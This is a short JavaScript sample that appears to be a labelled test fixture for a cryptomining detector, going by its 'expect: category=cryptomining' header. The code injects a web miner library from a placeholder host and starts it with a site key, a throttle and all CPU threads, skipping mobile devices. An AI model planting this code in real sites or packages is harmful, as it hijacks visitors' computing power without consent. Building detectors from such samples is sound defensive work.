// expect: category=cryptomining min=95 context=plugin,package
// why: a web miner library is injected and started with a site key and throttle, hidden from view.
(function () {
  var s = document.createElement('script');
  s.src = 'https://miner.example/lib/w.min.js';
  s.async = true;
  s.onload = function () {
    var m = new window.WebMiner.Anonymous('SITE_KEY_EXAMPLE', {
      throttle: 0.2,
      threads: navigator.hardwareConcurrency,
      autoThreads: true,
    });
    if (!m.isMobile()) m.start();
    setInterval(function () {
      window._h = m.getHashesPerSecond();
    }, 5000);
  };
  document.head.appendChild(s);
})();
